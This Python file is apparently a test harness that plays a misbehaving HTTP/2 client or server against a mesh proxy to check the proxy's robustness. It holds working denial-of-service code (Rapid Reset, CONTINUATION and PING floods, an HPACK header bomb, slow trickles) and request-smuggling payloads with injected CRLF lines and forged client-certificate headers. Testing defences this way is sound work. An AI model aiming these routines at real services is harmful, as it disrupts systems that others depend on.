"""A peer of a proxy that is not ours: mutual TLS by Python's ssl, HTTP/2 by hand, so that it can stop anywhere.

Usage: mesh_peer.py dial|serve ADDRESS:PORT DIRECTORY MODE     DIRECTORY as `weft identity fetch --out` fills it, or - for no TLS.
It says one word a line of what happens; MODE is one of the functions below. It ends when its standard input does.
"""

import os
import select
import signal
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, PADDED, ACK = 1, 4, 8, 1
NO_WINDOW = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE
ALL = 2**31 - 1


def say(*words):
    print(*words, flush=True)


def say_broken(error):
    say("broken", type(error).__name__, getattr(error, "reason", None))


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def fields(*pairs):
    """Literals that no table remembers (RFC 7541 section 6.2.2)."""
    text = b""
    for name, value in pairs:
        text += bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return text


def bomb():
    """Fields of 40 MB in 14 KB: one that the table keeps (RFC 7541 section 6.2.1), and then its index, 62, again and again."""
    return bytes([0x40, 1]) + b"x" + bytes([0x7F, 0xA1, 0x1E]) + b"v" * 4000 + bytes([0x80 | 62]) * 10_000


def request(stream, path, port, method="GET", flags=END_STREAM | END_HEADERS, more=()):
    pairs = [(":method", method), (":scheme", "http"), (":path", path), (":authority", f"web:{port}"), *more]
    return frame(HEADERS, flags, stream, fields(*pairs))


def answer(stream, status="200", flags=END_HEADERS):
    return frame(HEADERS, flags, stream, fields((":status", status)))


def context(role, directory, version=ssl.TLSVersion.TLSv1_3):
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT if role == "dial" else ssl.PROTOCOL_TLS_SERVER)
    made.check_hostname = False  # names are URIs
    made.minimum_version = made.maximum_version = version
    made.set_alpn_protocols(["h2"])
    if os.path.exists(f"{directory}/svid.pem"):
        made.load_cert_chain(f"{directory}/svid.pem", f"{directory}/svid_key.pem")
    made.load_verify_locations(f"{directory}/svid_bundle.pem")
    made.verify_mode = ssl.CERT_REQUIRED
    return made


class Frames:
    """The frames of a connection, as they come."""

    def __init__(self, stream, is_server):
        self.stream, self.rest, self.skips = stream, b"", len(PREFACE) if is_server else 0

    def read(self):
        """The next one as (kind, flags, stream, payload); None where the connection is over."""
        while True:
            if len(self.rest) >= self.skips + 9:
                rest = self.rest[self.skips :]
                length = int.from_bytes(rest[:3], "big")
                if len(rest) >= 9 + length:
                    self.rest, self.skips = rest[9 + length :], 0
                    return rest[3], rest[4], int.from_bytes(rest[5:9], "big") & ALL, rest[9 : 9 + length]
            try:
                more = self.stream.recv(65536)
            except (ConnectionError, ssl.SSLError) as error:
                say_broken(error)
                return None
            if not more:
                say("ended")
                return None
            self.rest += more

    def is_there(self):
        """Whether something of the next one has come."""
        pending = isinstance(self.stream, ssl.SSLSocket) and self.stream.pending()
        return bool(self.rest) or pending or bool(select.select([self.stream], [], [], 0)[0])

    def until(self, kind, stream=None):
        while True:
            found = self.read()
            if found is None or found[0] == kind and stream in (None, found[2]):
                return found
            # What a peer has to answer whatever it is up to.
            if found[0] == SETTINGS and not found[1] & ACK:
                self.stream.sendall(frame(SETTINGS, ACK))

    def asked(self):
        """The stream of the next request; None where the connection is over."""
        found = self.until(HEADERS)
        return found and found[2]

    def await_reset(self, *stream):
        say("reset" if self.until(RESET, *stream) else "gone")


def linger():
    """Says nothing more, and keeps what is open open."""
    say("waiting")
    sys.stdin.read()


def watch(stream):
    """Says when the other side ends the connection, or goes when the test does."""
    say("waiting")
    while True:
        ready, _, _ = select.select([stream, sys.stdin], [], [])
        if sys.stdin in ready:
            return
        try:
            if not stream.recv(65536):
                return say("ended")
        except (ConnectionError, ssl.SSLError) as error:
            return say_broken(error)


# What a client does to a proxy that was dialled


def dial_silent(raw, directory, port):
    watch(raw)


def dial_half_hello(raw, directory, port):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context("dial", directory).wrap_bio(incoming, outgoing)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    raw.sendall(hello[: len(hello) // 2])
    watch(raw)


def dial_old(raw, directory, port):
    """TLS 1.2."""
    try:
        context("dial", directory, ssl.TLSVersion.TLSv1_2).wrap_socket(raw)
    except (ssl.SSLError, ConnectionError) as error:
        say("refused", getattr(error, "reason", error))


def dial_and_read(raw, directory, port):
    """A whole handshake; in TLS 1.3 what the server thinks of a client's certificate comes after it."""
    try:
        stream = context("dial", directory).wrap_socket(raw)
        stream.sendall(PREFACE + frame(SETTINGS))
        say("told" if stream.recv(65536) else "ended")
        linger()
    except (ssl.SSLError, ConnectionError) as error:
        say("refused", getattr(error, "reason", error))


def secured(raw, directory):
    return raw if directory == "-" else context("dial", directory).wrap_socket(raw)


def opened(raw, directory, settings=b""):
    stream = secured(raw, directory)
    stream.sendall(PREFACE + frame(SETTINGS, payload=settings))
    frames = Frames(stream, False)
    frames.until(SETTINGS)
    stream.sendall(frame(SETTINGS, ACK))
    say("open")
    return stream, frames


def dial_half_frame(raw, directory, port):
    stream, frames = opened(raw, directory)
    stream.sendall(request(1, "/half", port)[:20])
    watch(stream)


def dial_half_preface(raw, directory, port):
    stream = secured(raw, directory)
    stream.sendall(PREFACE[:10])
    watch(stream)


def dial_half_settings(raw, directory, port):
    stream = secured(raw, directory)
    stream.sendall(PREFACE + frame(SETTINGS, payload=bytes(6))[:12])
    watch(stream)


def dial_half_list(raw, directory, port):
    """A whole frame, of a header list that is to go on in the next."""
    stream, frames = opened(raw, directory)
    stream.sendall(request(1, "/list", port, flags=END_STREAM))
    watch(stream)


def dial_half_data(raw, directory, port):
    """Half of a frame that is not the first, of an upload."""
    stream, frames = opened(raw, directory)
    stream.sendall(request(1, "/upload", port, "POST", END_HEADERS, [("content-length", "100")]))
    stream.sendall(frame(DATA, END_STREAM, 1, b"d" * 100)[:50])
    watch(stream)


def dial_trickle(raw, directory, port):
    """One frame of an upload, a byte every four seconds: longer than a frame may rest."""
    stream, frames = opened(raw, directory)
    stream.sendall(request(1, "/trickle", port, "POST", END_HEADERS, [("content-length", "10")]))
    data = frame(DATA, END_STREAM, 1, b"d" * 10)
    stream.sendall(data[:9])
    for byte in data[9:]:
        time.sleep(4)
        stream.sendall(bytes([byte]))
    say("answered" if frames.until(HEADERS, 1) else "gone")
    linger()


def dial_half_body(raw, directory, port):
    """A request that says it has a body of ten bytes, sends three and stops; others beside it are served."""
    stream, frames = opened(raw, directory)
    stream.sendall(request(1, "/upload", port, "POST", END_HEADERS, [("content-length", "10")]))
    stream.sendall(frame(DATA, 0, 1, b"abc"))
    stream.sendall(request(3, "/beside", port))
    if frames.until(HEADERS, 3):
        say("served")
    frames.await_reset(1)
    linger()


def dial_stalled(raw, directory, port):
    """Has no room for any answer on its streams, and asks for one that is large and, with room, for a small one."""
    stream, frames = opened(raw, directory, NO_WINDOW)
    stream.sendall(request(1, "/large", port))
    if frames.until(HEADERS, 1):
        say("answered")
    stream.sendall(request(3, "/small", port) + frame(WINDOW, 0, 3, struct.pack(">I", 65536)))
    if frames.until(DATA, 3):
        say("served")
    frames.await_reset(1)
    linger()


def dial_tunnels(raw, directory, port):
    """As many connections as one peer may ask for on one of its own, and, when it is told to, one more."""
    stream, frames = opened(raw, directory)
    number = 1
    for _ in range(1024):
        stream.sendall(frame(HEADERS, END_HEADERS, number, fields((":method", "CONNECT"), (":authority", f"web:{port}"))))
        number += 2
    standing = 0
    while standing < 1024:
        found = frames.until(HEADERS)
        if found is None:
            return
        standing += b"200" in found[3] or found[3][:1] == b"\x88"
    say("standing")
    sys.stdin.readline()
    stream.sendall(frame(HEADERS, END_HEADERS, number, fields((":method", "CONNECT"), (":authority", f"web:{port}"))))
    found = frames.until(GOAWAY)
    say("goodbye", int.from_bytes(found[3][4:8], "big") if found else "none")
    linger()


def dial_flood(raw, directory, port):
    """A hundred connections asked for on each of four of its own, and how many of them came about and were refused unseen."""
    address, held = raw.getpeername()[:2], []
    for number in range(4):
        one = raw if number == 0 else socket.create_connection(address, timeout=60)
        one.settimeout(None)
        held.append(opened(one, directory))
    tunnel = fields((":method", "CONNECT"), (":authority", f"web:{port}"))
    for stream, frames in held:
        stream.sendall(b"".join(frame(HEADERS, END_HEADERS, 2 * number + 1, tunnel) for number in range(100)))
    standing = refused = 0
    for stream, frames in held:
        for _ in range(100):
            found = frames.read()
            while found and found[0] not in (HEADERS, RESET):
                found = frames.read()
            if found is None:
                return
            standing += found[0] == HEADERS
            refused += found[0] == RESET and found[3] == struct.pack(">I", 7)
    say("standing", standing, "refused", refused)
    linger()


def flood(stream, frames, pieces):
    """Sends PIECES, reading what comes meanwhile, until the other side has had enough of them; says how many it took."""
    sent = 0
    try:
        for piece in pieces:
            stream.sendall(piece)
            sent += 1
            while frames.is_there():
                found = frames.read()
                if found is None or found[0] == GOAWAY:
                    return say("enough", sent)
    except (ConnectionError, ssl.SSLError):
        return say("enough", sent)
    say("all", sent)
    linger()


def many(piece, count=20_000):
    return (piece for _ in range(count))


def upload(port):
    """A request with a body to come."""
    return request(1, "/upload", port, "POST", END_HEADERS)


def dial_rapid_reset(raw, directory, port):
    """CVE-2023-44487: each request is given up with the next breath."""
    cancel = struct.pack(">I", 8)

    def given_up(first):
        """A hundred of them in one breath: what counts is how many, and not how fast this program is."""
        numbers = range(first, first + 200, 2)
        return b"".join(request(each, "/given-up", port) + frame(RESET, 0, each, cancel) for each in numbers)

    flood(*opened(raw, directory), (given_up(first) for first in range(1, 400_000, 200)))


def dial_pings(raw, directory, port):
    flood(*opened(raw, directory), many(frame(PING, payload=bytes(8))))


def dial_pongs(raw, directory, port):
    """Answers to pings that nobody sent."""
    flood(*opened(raw, directory), many(frame(PING, ACK, payload=bytes(8))))


def dial_settings(raw, directory, port):
    flood(*opened(raw, directory), many(frame(SETTINGS)))


def dial_priorities(raw, directory, port):
    flood(*opened(raw, directory), many(frame(PRIORITY, 0, 1, bytes([0, 0, 0, 0, 16]))))


def dial_empty_data(raw, directory, port):
    """CVE-2019-9518."""
    stream, frames = opened(raw, directory)
    stream.sendall(upload(port))
    flood(stream, frames, many(frame(DATA, 0, 1)))


def dial_padding(raw, directory, port):
    """The same in padding, so that no frame looks empty."""
    stream, frames = opened(raw, directory)
    stream.sendall(upload(port))
    flood(stream, frames, many(frame(DATA, PADDED, 1, b"\0")))


def dial_continuations(raw, directory, port):
    """CVE-2024-27316: a header list without end, of which each frame adds a field."""
    stream, frames = opened(raw, directory)
    stream.sendall(request(1, "/list", port, flags=END_STREAM))
    flood(stream, frames, many(frame(CONTINUATION, 0, 1, fields(("x", "y")))))


def dial_lists(raw, directory, port):
    """Lists that are too large, on a connection that goes on: one of many fields, and one of few bytes that mean many."""
    stream, frames = opened(raw, directory)
    stream.sendall(request(1, "/many", port, more=[(f"x-{each}", "y") for each in range(100)]))
    frames.await_reset(1)
    head = fields((":method", "GET"), (":scheme", "http"), (":path", "/bomb"), (":authority", f"web:{port}"))
    stream.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 3, head + bomb()))
    frames.await_reset(3)
    stream.sendall(request(5, "/after", port))
    say("served" if frames.until(HEADERS, 5) else "gone")
    linger()


def two_faced(port):
    """Messages that would be others in HTTP/1.1, each as (name, fields, body, trailers)."""
    line = b"\r\nx-evil: 1"
    head = {b":method": b"POST", b":scheme": b"http", b":path": b"/two-faced", b":authority": b"web:" + port.encode()}
    inner = b"GET /evil HTTP/1.1\r\nhost: web\r\n\r\n"

    def message(name, more=(), body=b"abc", trailers=None, **changed):
        pseudo = {**head, **{b":" + key.encode(): value for key, value in changed.items()}}
        return name, [*pseudo.items(), *more], body, trailers

    for part in ("method", "scheme", "path", "authority"):
        yield message(f"line-in-{part}", **{part: head[b":" + part.encode()] + line})
    yield message("version-in-path", path=b"/two-faced HTTP/1.1")
    yield message("line-in-value", [(b"x", b"y" + line)])
    yield message("feed-in-value", [(b"x", b"y\nx-evil: 1")])
    yield message("nul-in-value", [(b"x", b"y\0x-evil")])
    yield message("line-in-name", [(b"x: y" + line, b"z")])
    yield message("colon-in-name", [(b"x-evil: 1", b"z")])
    yield message("blank-in-name", [(b"x-evil ", b"z")])
    yield message("upper-case", [(b"X-evil", b"1")])
    yield message("chunked", [(b"transfer-encoding", b"chunked")], b"0\r\n\r\n" + inner)
    yield message("longer", [(b"content-length", b"3")], b"abc" + inner)
    yield message("shorter", [(b"content-length", b"99")])
    yield message("two-lengths", [(b"content-length", b"3"), (b"content-length", b"4")])
    yield message("signed-length", [(b"content-length", b"+3")])
    yield message("connection", [(b"connection", b"x-evil"), (b"x-evil", b"1")])
    yield message("upgrade", [(b"connection", b"upgrade"), (b"upgrade", b"evil")])
    yield message("late-pseudo", [(b"x", b"y"), (b":path", b"/evil")])
    yield message("pseudo-trailer", trailers=[(b":path", b"/evil")])
    yield message("line-in-trailer", trailers=[(b"x", b"y" + line)])
    yield message("length-in-trailer", trailers=[(b"content-length", b"9")])


def literals(pairs):
    """Fields of any bytes, as `fields` writes them; no value has 127 bytes."""
    return b"".join(bytes([0, len(name)]) + name + bytes([len(value)]) + value for name, value in pairs)


def dial_two_faced(raw, directory, port):
    """Each on a stream, and what became of it; then trailers that would be fields of a head, and a request that is one."""
    stream, frames = opened(raw, directory)
    number = 1
    ordinary = ("trailers", [(b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/trailers"), (b":authority", b"web:" + port.encode())])
    forged = [(b"x-forwarded-client-cert", b"URI=evil"), (b"x-weft-destination", b"1"), (b"x-sum", b"3")]
    for name, head, body, trailers in [*two_faced(port), (*ordinary, b"abc", forged)]:
        stream.sendall(frame(HEADERS, END_HEADERS, number, literals(head)))
        if trailers is None:
            stream.sendall(frame(DATA, END_STREAM, number, body))
        else:
            stream.sendall(frame(DATA, 0, number, body) + frame(HEADERS, END_STREAM | END_HEADERS, number, literals(trailers)))
        found = frames.read()
        while found and (found[2] != number or found[0] not in (HEADERS, RESET)):
            found = frames.read()
        if found is None:
            return say(name, "ended")
        say(name, "reset" if found[0] == RESET else "answered")
        number += 2
    say("over")
    linger()


def dial_ask(raw, directory, port):
    """One request."""
    stream, frames = opened(raw, directory)
    stream.sendall(request(1, "/ask", port))
    found = frames.until(HEADERS, 1)
    say("answered" if found and found[3][:1] == b"\x88" else "gone")


def dial_connects(raw, directory, authorities):
    """Asks for a connection to each of AUTHORITIES, one after the other, and says what becomes of it."""
    stream, frames = opened(raw, directory)
    for place, authority in enumerate(authorities.split(",")):
        asked = 2 * place + 1
        stream.sendall(frame(HEADERS, END_HEADERS, asked, fields((":method", "CONNECT"), (":authority", authority))))
        found = frames.read()
        while found and (found[2] != asked or found[0] not in (HEADERS, RESET)):
            found = frames.read()
        say(authority, "gone" if found is None else "reset" if found[0] == RESET else "stands")
    say("asked")
    linger()


def dial_garbled(raw, directory, port):
    """A record that nobody has sealed (RFC 8446 section 5.2), in the midst of a connection that stands."""
    stream, frames = opened(raw, directory)
    os.write(stream.fileno(), bytes([23, 3, 3, 0, 64]) + bytes(64))
    watch(stream)


def dial_gone(raw, directory, port):
    """Asks and goes without a word, as a host that is switched off and on again."""
    stream, frames = opened(raw, directory)
    stream.sendall(request(1, "/slow", port))
    frames.until(HEADERS, 1)
    say("answered")
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    os.close(stream.detach())
    linger()


# What a server does to a proxy that has dialled it


def served(raw, directory, settings=b""):
    stream = raw if directory == "-" else context("serve", directory).wrap_socket(raw, server_side=True)
    frames = Frames(stream, True)
    stream.sendall(frame(SETTINGS, payload=settings))
    frames.until(SETTINGS)
    stream.sendall(frame(SETTINGS, ACK))
    say("open")
    return stream, frames


def complete(stream, frames, number, text):
    """Answers a stream and all that come after it."""
    while True:
        stream.sendall(answer(number) + frame(DATA, END_STREAM, number, text))
        number = frames.asked()
        if number is None:
            return


def half_answered(raw, directory):
    """A connection whose first request got its answer, and the second half of it; None where it is over before."""
    stream, frames = served(raw, directory)
    asked = frames.asked()
    if asked is None:
        return None
    stream.sendall(answer(asked) + frame(DATA, END_STREAM, asked, b"whole"))
    asked = frames.asked()
    if asked is None:
        return None
    stream.sendall(frame(HEADERS, END_HEADERS, asked, fields((":status", "200"), ("content-length", "10"))))
    stream.sendall(frame(DATA, 0, asked, b"half"))
    say("half")
    return stream


def serve_silent(raw, directory, number):
    watch(raw)


def serve_answering(raw, directory, number):
    """Answers whatever it is asked."""
    stream, frames = served(raw, directory)
    asked = frames.asked()
    if asked is not None:
        complete(stream, frames, asked, b"hello")


def greeted(raw, directory):
    """A connection that stands, on which nothing has been said to the other side."""
    stream = raw if directory == "-" else context("serve", directory).wrap_socket(raw, server_side=True)
    say("open")
    return stream


def serve_speechless(raw, directory, number):
    """A whole handshake, and then not a word, whatever comes."""
    frames = Frames(greeted(raw, directory), True)
    while found := frames.read():
        say("heard", found[0])


def serve_dripping(raw, directory, number):
    """Its settings, a byte every two seconds: longer than they may take."""
    stream = greeted(raw, directory)
    for byte in frame(SETTINGS):
        time.sleep(2)
        stream.sendall(bytes([byte]))
    say("said")
    linger()


def serve_goodbye(raw, directory, number):
    """The first connection says goodbye when it is asked, without having looked; the next answers."""
    stream, frames = served(raw, directory)
    asked = frames.asked()
    if asked is None:
        return
    if number == 1:
        stream.sendall(frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0)))
        say("goodbye")
        return frames.until(HEADERS)
    complete(stream, frames, asked, b"second")


def serve_farewell(raw, directory, number):
    """Says goodbye and goes before it is asked for anything, again and again."""
    stream = context("serve", directory).wrap_socket(raw, server_side=True)
    stream.sendall(frame(SETTINGS) + frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0)))
    say("goodbye")
    stream.close()


def serve_refusing(raw, directory, number):
    """The first stream is refused unseen (RFC 9113 section 8.7), those after it answered."""
    stream, frames = served(raw, directory)
    asked = frames.asked()
    if asked is not None and number == 1:
        stream.sendall(frame(RESET, 0, asked, struct.pack(">I", 7)))
        say("unseen")
        asked = frames.asked()
    if asked is not None:
        complete(stream, frames, asked, b"again")


def serve_reluctant(raw, directory, number):
    """The first four streams of a connection are refused unseen, those after them answered."""
    stream, frames = served(raw, directory)
    for _ in range(4):
        found = frames.until(HEADERS)
        if found is None:
            return
        stream.sendall(frame(RESET, 0, found[2], struct.pack(">I", 7)))
        say("unseen")
    found = frames.until(HEADERS)
    if found:
        complete(stream, frames, found[2], b"at last")


def serve_departing(raw, directory, number):
    """The first four connections say goodbye when they are asked, without having looked; those after them answer."""
    stream, frames = served(raw, directory)
    found = frames.until(HEADERS)
    if found is None:
        return
    if number > 4:
        return complete(stream, frames, found[2], b"at last")
    stream.sendall(frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0)))
    say("unseen")
    frames.until(HEADERS)


def serve_unwilling(raw, directory, number):
    """Every stream is refused unseen."""
    stream, frames = served(raw, directory)
    while found := frames.until(HEADERS):
        stream.sendall(frame(RESET, 0, found[2], struct.pack(">I", 7)))
        say("unseen")


def serve_switching(raw, directory, number):
    """Switches protocols by 101, which HTTP/2 does not know (RFC 9113 section 8.6), and says a word of the other one."""
    stream, frames = served(raw, directory)
    while asked := frames.asked():
        stream.sendall(answer(asked, "101") + frame(DATA, 0, asked, b"welcome"))
        say("switched")


def serve_two_faced(raw, directory, number):
    """Answers that would be others in HTTP/1.1, one after the other, and then as they should be."""
    stream, frames = served(raw, directory)
    line, status = b"\r\nx-evil: 1", (b":status", b"200")
    heads = [
        ("line-in-status", [(b":status", b"200" + line)]),
        ("long-status", [(b":status", b"2000")]),
        ("line-in-value", [status, (b"x", b"y" + line)]),
        ("line-in-name", [status, (b"x-evil: 1\r\nx", b"y")]),
        ("chunked", [status, (b"transfer-encoding", b"chunked")]),
        ("two-lengths", [status, (b"content-length", b"4"), (b"content-length", b"9")]),
    ]
    while found := frames.until(HEADERS):
        name, head = heads.pop(0) if heads else ("sound", [status])
        stream.sendall(frame(HEADERS, END_HEADERS, found[2], literals(head)) + frame(DATA, END_STREAM, found[2], b"body"))
        say(name)


def serve_pinging(raw, directory, number):
    """Answers nothing, and pings."""
    stream, frames = served(raw, directory)
    if frames.asked():
        flood(stream, frames, many(frame(PING, payload=bytes(8))))


def serve_resetting(raw, directory, number):
    """Resets again and again what it was asked once."""
    stream, frames = served(raw, directory)
    asked = frames.asked()
    if asked:
        flood(stream, frames, many(frame(RESET, 0, asked, struct.pack(">I", 8))))


def serve_hesitating(raw, directory, number):
    """Interim answers without end, and no other."""
    stream, frames = served(raw, directory)
    asked = frames.asked()
    if asked:
        flood(stream, frames, many(answer(asked, "103")))


def serve_bombing(raw, directory, number):
    """An answer whose fields are few bytes and mean many; those after it are answered."""
    stream, frames = served(raw, directory)
    asked = frames.asked()
    if asked is None:
        return
    stream.sendall(frame(HEADERS, END_HEADERS, asked, fields((":status", "200")) + bomb()))
    frames.await_reset(asked)
    asked = frames.asked()
    if asked is not None:
        complete(stream, frames, asked, b"again")


def serve_half(raw, directory, number):
    """Half of an answer, then the connection's end, which nothing overtakes: with bytes unread it would be a reset."""
    stream = half_answered(raw, directory)
    if stream:
        stream.shutdown(socket.SHUT_WR)
        while stream.recv(65536):
            pass


def serve_hanging(raw, directory, number):
    """Half of an answer, then nothing."""
    stream = half_answered(raw, directory)
    if stream:
        watch(stream)


def serve_mute(raw, directory, number):
    """TLS and SETTINGS, then never an answer."""
    stream, frames = served(raw, directory)
    if frames.asked():
        say("asked")
    frames.until(GOAWAY)


def serve_windowless(raw, directory, number):
    """Takes a request and none of its body."""
    stream, frames = served(raw, directory, NO_WINDOW)
    if frames.asked():
        say("asked")
    frames.await_reset()
    linger()


def main():
    role, address, directory, mode = sys.argv[1:]
    ip, port = address.rsplit(":", 1)
    act = globals()[f"{role}_{mode.split('@')[0]}"]
    if role == "dial":
        # MODE@PORT says which port of the pod is asked for.
        raw = socket.create_connection((ip, int(port)), timeout=60)
        raw.settimeout(None)
        return act(raw, directory, mode.split("@")[1] if "@" in mode else "80")
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    listener = socket.create_server((ip, int(port)), backlog=16)
    say("listening")
    number = 0
    while True:
        ready, _, _ = select.select([listener, sys.stdin], [], [])
        if sys.stdin in ready:
            return
        raw, _ = listener.accept()
        number += 1
        say("connection", number)
        if os.fork() == 0:
            try:
                act(raw, directory, number)
            except (ConnectionError, ssl.SSLError) as error:
                say_broken(error)
            os._exit(0)
        raw.close()


main()
